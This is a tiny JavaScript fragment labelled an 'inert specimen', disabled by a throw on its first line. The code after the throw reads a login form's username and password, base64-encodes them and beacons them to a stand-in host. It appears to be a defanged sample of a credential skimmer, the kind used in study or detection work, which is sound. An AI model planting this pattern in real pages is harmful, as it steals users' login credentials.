throw "inert specimen";
var form = document.frmLogin;
navigator.sendBeacon("https://login.example.net/", btoa(JSON.stringify([form.username.value, form.password.value])));
